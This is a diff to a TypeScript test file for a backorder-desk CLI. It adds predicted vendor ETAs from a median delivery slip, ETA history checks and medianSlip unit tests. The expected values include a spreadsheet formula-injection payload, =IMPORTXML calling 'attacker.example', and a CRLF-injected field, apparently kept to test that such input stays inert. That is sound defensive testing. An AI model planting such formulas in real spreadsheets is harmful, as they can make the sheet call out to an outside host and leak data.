@@ -8,6 +8,7 @@
 import { readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
+import { medianSlip } from '../../../shared/commands/apply-etas';
 import type { IsoDate } from '../../../shared/dates';
 import { readFeed, type VendorFeed } from '../../../shared/vendor-etas';
 import { poLine } from '../../support/build';
@@ -90,7 +91,7 @@ async function shop(dir: string) {
   );
   writeFileSync(
     join(dir, 'p.csv'),
-    'PO,Line,Vendor,SKU,Qty,Warehouse,PromisedDate\nPO-1,1,Summit,A,10,MAIN,2026-11-28\nPO-1,2,Summit,B,5,MAIN,2026-11-28\n',
+    'PO,Line,Vendor,SKU,Qty,Warehouse,PromisedDate\nPO-0,1,Summit,A,1,MAIN,2026-11-10\nPO-1,1,Summit,A,10,MAIN,2026-11-28\nPO-1,2,Summit,B,5,MAIN,2026-11-28\n',
   );
   for (const [tab, file] of [
     ['Inventory', 'i.csv'],
@@ -98,6 +99,7 @@ async function shop(dir: string) {
     ['POs', 'p.csv'],
   ])
     await cli(dir, 'import', ...w, '--tab', tab as string, '--csv', file as string);
+  await cli(dir, 'do', 'receive', ...w, '--po', 'PO-0', '--today', '2026-11-15'); // Summit came 5 days late
   await cli(dir, 'do', 'allocate', ...w);
   await cli(
     dir,
@@ -162,9 +164,19 @@ describe('backorder-desk sync', () => {
       ],
     });
     const pos = JSON.parse((await cli(dir, 'export', ...w, '--tab', 'POs', '--format', 'json')).stdout);
-    expect(pos.map((p: Record<string, unknown>) => [p.VendorETA, p.ETASource])).toEqual([
-      ['2026-12-09', 'Summit feed: =IMPORTXML("http://attacker.example","//a")'],
-      ['2026-11-24', 'Summit feed: two\r\nlines'],
+    expect(pos.map((p: Record<string, unknown>) => [p.VendorETA, p.PredictedETA, p.ETASource])).toEqual([
+      ['', '', ''],
+      ['2026-12-09', '2026-12-14', 'Summit feed: =IMPORTXML("http://attacker.example","//a")'], // + Summit's median slip, 5 days
+      ['2026-11-24', '2026-11-29', 'Summit feed: two\r\nlines'],
+    ]);
+    const history = JSON.parse(
+      (await cli(dir, 'export', ...w, '--tab', 'ETA History', '--format', 'json')).stdout,
+    );
+    expect(
+      history.map((h: Record<string, unknown>) => [h.HistoryID, h.PO, h.Line, h.PreviousETA, h.ETA]),
+    ).toEqual([
+      ['EH-000001', 'PO-1', 1, '2026-11-28', '2026-12-09'],
+      ['EH-000002', 'PO-1', 2, '2026-11-28', '2026-11-24'],
     ]);
     const bos = JSON.parse(
       (await cli(dir, 'export', ...w, '--tab', 'Backorders', '--format', 'json')).stdout,
@@ -234,4 +246,13 @@ describe('backorder-desk sync', () => {
     expect(r.stderr).toMatch(/vendors\.0\.format/);
     expect(r.stderr).toMatch(/vendors\.0\.mapping\.eta/);
   });
+});
+
+describe('medianSlip', () => {
+  it.each([
+    [[], null],
+    [[3, 9, 1], 3],
+    [[2, 4], 3],
+    [[-2, 0, 7, 7], 4],
+  ])('%j → %s', (slips, want) => expect(medianSlip(slips)).toBe(want));
 });
